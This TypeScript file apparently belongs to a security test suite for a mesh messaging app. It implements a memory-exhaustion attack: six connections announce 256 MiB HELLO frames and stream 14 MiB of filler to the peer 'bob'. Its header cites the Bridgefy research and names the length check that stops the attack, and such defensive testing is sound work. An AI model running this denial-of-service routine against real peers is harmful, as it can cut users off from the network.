/**
 * oversize: announces messages that are larger than any memory.
 *
 * What it does: on a few connections, before she has said who she is, she begins a HELLO of 256 MiB, and sends the
 * first 14 MiB of each. Whoever believes a length keeps room for it, and all that came.
 * Published: M. R. Albrecht et al., Mesh Messaging in Large-scale Protests: Breaking Bridgefy, CT-RSA 2021, §5.5: one
 * message stops the network.
 * What stops it: the length is compared with what its type may have, before anything is kept.
 */

import { FrameType, HEADER_BYTES, writeHeader } from '../peers/protocol/frames'
import type { Attack, Mallory } from './attack'
import { deed } from './deeds'
import { noop } from './noop'

const VICTIM = 'bob'
const CONNECTIONS = 6
const ANNOUNCED_BYTES = 256 * 2 ** 20
const SENT_BYTES = 14 * 2 ** 20

export const oversize: Attack = {
  name: 'oversize',
  about: 'announces messages that are larger than any memory',
  prepare: noop.prepare,
  /** Over when everything is sent, or refused; what was taken stays with Bob until the phase is over. */
  async launch(mallory) {
    mallory.acted(deed('begins-messages', CONNECTIONS, ANNOUNCED_BYTES, VICTIM, SENT_BYTES))
    await Promise.all(Array.from({ length: CONNECTIONS }, () => begin(mallory)))
  },
}

/** Sends the beginning of one message. */
async function begin(mallory: Mallory): Promise<void> {
  const socket = await mallory.call(VICTIM)
  socket.once('end', () => socket.destroy())
  socket.resume()
  const header = Buffer.alloc(HEADER_BYTES)
  writeHeader(header, FrameType.HELLO, ANNOUNCED_BYTES)
  socket.write(header)
  const piece = Buffer.alloc(2 ** 16, 'A')
  for (let sent = 0; sent < SENT_BYTES && !socket.destroyed; sent += piece.length) {
    if (socket.write(piece)) continue
    await new Promise((resolve) => socket.once('drain', resolve).once('close', resolve))
  }
}
